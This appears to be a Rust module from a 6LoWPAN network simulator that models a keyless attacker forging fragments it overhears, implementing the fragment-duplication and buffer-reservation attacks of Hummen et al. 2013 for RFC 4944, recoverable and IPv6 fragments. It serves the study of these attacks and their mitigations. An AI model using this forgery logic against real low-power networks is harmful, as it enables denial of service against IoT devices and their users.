//! What an attacker makes of a fragment that it overhears (Hummen et al. 2013, "6LoWPAN Fragmentation Attacks and
//! Mitigation Mechanisms").
//!
//! The attacker is as strong as one can be who knows no key: it hears everything, its frames take no time on the air, and
//! none is lost.

use sixlo::wire::addr::LinkAddr;
use sixlo::wire::ieee802154::Header;
use sixlo::wire::iphc::{self, Context, Contexts, Link};
use sixlo::wire::ipv6::{HEADER_LEN, NextHeader};
use sixlo::wire::ipv6_ext::fragment;
use sixlo::wire::lowpan::frag::Fragment;
use sixlo::wire::lowpan::rfrag::Rfrag;
use sixlo::wire::lowpan::{self, Dispatch};

use crate::config;
use crate::rng::mix;

/// The attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Forgery {
    /// Fragment duplication: the fragment that is to follow comes first from the attacker, with bytes of its own.
    Next,
    /// Buffer reservation: the first fragment of another datagram, of which nothing more will come, from a neighbour that
    /// does not exist.
    First,
}

/// Where the next header of a fixed header stands.
const NEXT_HEADER_AT: usize = 6;

/// The frame that an attacker makes of an overheard one, if that is worth an attack. `luck` decides what is random.
pub fn forge(frame: &[u8], forgery: Forgery, luck: u64, contexts: &[Context]) -> Option<Vec<u8>> {
    let (header, payload) = Header::parse(frame).ok()?;
    let (dispatch, body, _) = lowpan::strip(payload).ok()?;
    let luck = mix(luck);
    let mut header = header;
    // It must not be taken for a retransmission.
    header.sequence = Some(header.sequence?.wrapping_add(0x80 | luck as u8 & 0x7f));
    let before = Link {
        src: header.src,
        dst: header.dst,
    };
    if forgery == Forgery::First {
        let [a, b, c, d, ..] = luck.to_be_bytes();
        header.src = LinkAddr::Extended([2, 0xff, 0, 0, a, b, c, d]);
    }
    let forged = match (dispatch, forgery) {
        (Dispatch::Frag1 | Dispatch::FragN, _) => plain(body, forgery, luck)?,
        (Dispatch::Rfrag, _) => recoverable(body, forgery, luck)?,
        (Dispatch::Iphc, _) => {
            let after = Link {
                src: header.src,
                dst: header.dst,
            };
            packet(body, forgery, luck, (&before, &after), &Contexts(contexts))?
        }
        _ => return None,
    };
    let mut out = vec![0; header.emit_len()];
    header.emit(&mut out).ok()?;
    out.extend(forged);
    (out.len() <= sixlo::netdev::FRAME_LEN_MAX - sixlo::netdev::FCS_LEN).then_some(out)
}

/// What is forged of a fragment of RFC 4944.
fn plain(body: &[u8], forgery: Forgery, luck: u64) -> Option<Vec<u8>> {
    let (mut fragment, data) = Fragment::parse(body).ok()?;
    let data = match forgery {
        Forgery::First if !fragment.is_first() => return None,
        Forgery::First => {
            fragment.datagram_tag = (luck >> 32) as u16;
            data.to_vec()
        }
        // How much the first one stands for is known when it is decompressed; the next will do.
        Forgery::Next if fragment.is_first() => return None,
        Forgery::Next => {
            let next = usize::from(fragment.datagram_offset) + data.len() / 8;
            fragment.datagram_offset = u8::try_from(next).ok()?;
            let left = usize::from(fragment.datagram_size).checked_sub(fragment.start())?;
            noise(data.len().min(left), luck)
        }
    };
    let mut out = vec![0; fragment.emit_len()];
    fragment.emit(&mut out).ok()?;
    out.extend(data);
    Some(out)
}

/// What is forged of a recoverable fragment.
fn recoverable(body: &[u8], forgery: Forgery, luck: u64) -> Option<Vec<u8>> {
    let (mut fragment, data) = Rfrag::parse(body).ok()?;
    if fragment.is_abort() {
        return None;
    }
    let data = match forgery {
        Forgery::First if !fragment.is_first() => return None,
        Forgery::First => {
            fragment.tag = (luck >> 32) as u8;
            data.to_vec()
        }
        Forgery::Next => {
            fragment.offset = fragment.start() + fragment.size;
            fragment.sequence = (fragment.sequence + 1) & 31;
            fragment.ack_request = false;
            noise(data.len(), luck)
        }
    };
    let mut out = vec![0; Rfrag::LEN];
    fragment.emit(&mut out).ok()?;
    out.extend(data);
    Some(out)
}

/// The same for a fragment of IPv6.
fn packet(
    body: &[u8],
    forgery: Forgery,
    luck: u64,
    (before, after): (&Link, &Link),
    contexts: &Contexts<'_>,
) -> Option<Vec<u8>> {
    let mut head = [0; 256];
    let expanded = iphc::decompress(body, before, contexts, None, &mut head).ok()?;
    let mut bytes = head.get(..expanded.written)?.to_vec();
    let mut data = body.get(expanded.consumed..)?.to_vec();
    if bytes.get(NEXT_HEADER_AT) != Some(&NextHeader::FRAGMENT.0) {
        return None;
    }
    let headers_len = HEADER_LEN + fragment::HEADER_LEN;
    let field = bytes.get(HEADER_LEN..headers_len)?;
    let mut header = fragment::Header::parse(field.try_into().ok()?);
    match forgery {
        Forgery::First if header.offset != 0 => return None,
        Forgery::First => header.identification ^= luck as u32 | 1,
        Forgery::Next if !header.more => return None,
        Forgery::Next => {
            let carried = bytes.len() - headers_len + data.len();
            header.offset += (carried / 8) as u16;
            bytes.truncate(headers_len);
            data = noise(carried, luck);
        }
    }
    bytes
        .get_mut(HEADER_LEN..headers_len)?
        .copy_from_slice(&header.emit());
    let mut out = vec![0; 256];
    let compressed = iphc::compress(&bytes, after, contexts, &mut out).ok()?;
    out.truncate(compressed.written);
    out.extend(bytes.get(compressed.consumed..)?);
    out.extend(data);
    Some(out)
}

/// The context of header compression that every node has.
pub fn context(link: &config::Link) -> Context {
    if link.prefix_is_context {
        Context::new(link.prefix.octets(), 64)
    } else {
        Context::EMPTY
    }
}

/// Random bytes.
fn noise(len: usize, luck: u64) -> Vec<u8> {
    (0..len as u64).map(|at| mix(luck ^ at) as u8).collect()
}

#[cfg(test)]
mod tests;
